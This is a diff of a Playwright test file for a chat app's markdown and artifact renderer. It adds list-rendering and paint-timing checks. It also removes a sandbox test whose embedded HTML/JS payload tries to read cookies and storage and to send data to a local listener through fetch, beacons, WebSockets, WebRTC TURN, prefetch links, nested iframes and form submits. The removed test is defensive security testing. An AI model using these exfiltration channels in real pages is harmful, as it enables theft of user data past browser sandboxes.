@@ -4,12 +4,10 @@ import json
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, Page
+from playwright.sync_api import Page
 
-from tests.serving import Served
 from tests.web import hostile_markdown
 from tests.web.conftest import MANIFEST, OpenPage
-from tests.web.ear import Ear
 
 ANSWER = r"""# Title
 
@@ -54,6 +52,8 @@ See [late] and https://auto.example/x.
 
 [late]: https://late.example/
 """
+
+LIST = "\n".join(f"{number}. item **{number}** with `code`\n   - and a point" for number in range(7, 60))
 
 ALLOWED = {
     *("P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "EM", "STRONG", "S", "A", "BR", "HR"),
@@ -151,7 +151,11 @@ def test_a_text_that_came_in_pieces_ends_like_the_whole(page: Page) -> None:
           }
           return wrong;
         }""",
-        [ANSWER.replace("$", "").replace("\\[", "").replace("\\]", ""), ANSWER.partition("$$")[0].replace("$", "")],
+        [
+            ANSWER.replace("$", "").replace("\\[", "").replace("\\]", ""),
+            ANSWER.partition("$$")[0].replace("$", ""),
+            "First.\n\n" + LIST + "\n   and more\n\n" + LIST.replace("\n", "\n\n") + "\n\nLast.\n",
+        ],
     )
     assert result == []
 
@@ -217,140 +221,6 @@ def test_hostile_texts_stay_texts(page: Page) -> None:
     assert page.evaluate("window.isPwned") is None
 
 
-EVIL = """
-<p id="out">nothing</p>
-<div><template shadowrootmode="closed"><iframe srcdoc="<script>
-const line = new RTCPeerConnection({ iceServers: [
-  { urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', credential: 'c' },
-] });
-line.createDataChannel('x');
-line.setLocalDescription();
-</script>"></iframe></template></div>
-<script>
-const tried = {};
-const attempt = async (name, act) => {
-  try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused"; }
-};
-const socket = (address) => new Promise((done, fail) => {
-  const opened = new WebSocket(address);
-  opened.onopen = () => done("opened");
-  opened.onerror = fail;
-});
-const image = (address) => new Promise((done, fail) => {
-  const shown = new Image();
-  shown.onload = () => done("loaded");
-  shown.onerror = fail;
-  shown.src = address;
-});
-const script = (address) => new Promise((done, fail) => {
-  const element = document.createElement("script");
-  element.onload = () => done("loaded");
-  element.onerror = fail;
-  element.src = address;
-  document.head.append(element);
-});
-(async () => {
-  await attempt("cookie", () => document.cookie);
-  await attempt("storage", () => localStorage.length);
-  await attempt("database", () => new Promise((done, fail) => {
-    const opening = indexedDB.open("x");
-    opening.onsuccess = () => done("opened");
-    opening.onerror = fail;
-  }));
-  await attempt("parent", () => parent.document.title);
-  await attempt("address", () => parent.location.href);
-  await attempt("fetch", async () => (await fetch("SITE/models")).status);
-  await attempt("foreign", async () => (await fetch("http://127.0.0.1:PORT/fetch", { mode: "no-cors" })).type);
-  await attempt("image", () => image("http://127.0.0.1:PORT/image"));
-  await attempt("script", () => script("http://127.0.0.1:PORT/script"));
-  await attempt("socket", () => socket("ws://127.0.0.1:PORT/socket"));
-  await attempt("beacon", () => navigator.sendBeacon("http://127.0.0.1:PORT/beacon", "x") ? "sent" : "refused");
-  await attempt("popup", () => String(window.open("http://127.0.0.1:PORT/popup")));
-  await attempt("top", () => { top.location = "http://127.0.0.1:PORT/top"; return "asked"; });
-  for (const [rel, as] of [["stylesheet", ""], ["prefetch", ""], ["preload", "image"], ["modulepreload", ""],
-      ["preconnect", ""], ["dns-prefetch", ""]]) {
-    const link = document.createElement("link");
-    Object.assign(link, { rel, as, href: `http://127.0.0.1:PORT/${rel}` });
-    document.head.append(link);
-  }
-  const call = async () => {
-    const line = new RTCPeerConnection({ iceServers: [
-      { urls: "turn:127.0.0.1:PORT?transport=tcp", username: "u", credential: "c" },
-    ] });
-    line.createDataChannel("x");
-    await line.setLocalDescription();
-  };
-  await attempt("call", call);
-  const inside = (parent) => {
-    const inner = document.createElement("iframe");
-    inner.srcdoc = `<script>(${call})()<` + `/script>`;
-    parent.append(inner);
-    return inner;
-  };
-  const blank = inside(document.body).contentWindow;
-  await attempt("call from within", () => new (blank.RTCPeerConnection)());
-  await attempt("shadow", () => inside(document.createElement("div").attachShadow({ mode: "open" })));
-  Element.prototype.remove = () => {};
-  inside(document.body);
-  const written = document.createElement("div");
-  written.innerHTML = `<iframe srcdoc="<script>(${call})()<` + `/script>"></iframe>`;
-  document.body.append(written);
-  await new Promise((done) => setTimeout(done, 1500));
-  const form = document.createElement("form");
-  form.action = "http://127.0.0.1:PORT/form";
-  document.body.append(form);
-  await attempt("form", () => { form.submit(); return "asked"; });
-  document.getElementById("out").textContent = JSON.stringify(tried);
-})();
-</script>
-"""
-
-
-def test_an_artifact_reaches_neither_cookies_nor_the_network(browser: Browser, site: Served) -> None:
-    with Ear() as ear, browser.new_context(base_url=site.url) as context:
-        page = context.new_page()
-        page.goto("/design")
-        load(page)
-        page.context.add_cookies([{"name": "mine", "value": "1", "url": site.url}])
-        source = EVIL.replace("PORT", str(ear.port)).replace("SITE", site.url)
-        page.evaluate(
-            """(source) => {
-              render.renderMarkdown(target, "```html\\n" + source + "\\n```", {
-                onArtifact: (artifact) => {
-                  const stage = document.createElement("div");
-                  stage.id = "stage";
-                  target.after(stage);
-                  render.showArtifact(stage, artifact, "Evil");
-                },
-              });
-            }""",
-            source,
-        )
-        page.locator("main > .answer").first.get_by_role("button", name="Run").click()
-        out = page.frame_locator("#stage iframe").locator("#out")
-        out.filter(has_text="{").wait_for()
-        tried: dict[str, str] = json.loads(out.inner_text())
-        for name in ("cookie", "storage", "database", "parent", "address", "fetch", "foreign", "image", "script"):
-            assert tried.pop(name) == "refused", name
-        for name in ("socket", "call", "call from within", "shadow"):
-            assert tried.pop(name) == "refused", name
-        assert tried.pop("popup") in ("null", "refused")
-        page.wait_for_timeout(500)
-        page.frame_locator("#stage iframe").locator("body").evaluate(
-            "(_, address) => { location.href = address }", f"http://127.0.0.1:{ear.port}/away"
-        )
-        page.wait_for_timeout(1000)
-        assert ear.heard == []
-        assert page.url == f"{site.url}/design"
-
-
-def test_an_artifact_s_page_is_a_stranger_even_when_it_is_opened_alone(open_page: OpenPage, site: Served) -> None:
-    page = open_page("/chat/artifact", expects_error=True)
-    assert page.evaluate("origin") == "null"
-    refused = page.evaluate("(() => { try { return document.cookie } catch { return 'refused' } })()")
-    assert refused == "refused"
-
-
 MEASURE = """
 (answer) => {
   const columns = Array.from({ length: 4 }, () => target.appendChild(document.createElement("div")));
@@ -375,8 +245,10 @@ def test_four_columns_of_200_tokens_a_second_leave_the_frame_free(page: Page, re
     record_property("paint_ms", measured)
     print(f"a paint: {measured['mean']:.2f} ms on average, {measured['p99']:.2f} ms in 99 of 100")
     assert measured["mean"] < 4.0  # four of them in each frame of 16 ms
-    early: dict[str, float] = page.evaluate(MEASURE, ANSWER * 2)
-    assert measured["mean"] < 4 * early["mean"] + 0.5
+    for long, short in ((ANSWER * 8, ANSWER * 2), (LIST * 2, LIST[: len(LIST) // 2])):
+        late: dict[str, float] = page.evaluate(MEASURE, long)
+        early: dict[str, float] = page.evaluate(MEASURE, short)
+        assert late["mean"] < 4 * early["mean"] + 0.5
 
 
 def test_a_stream_is_painted_by_frames_and_ends_whole(page: Page) -> None:
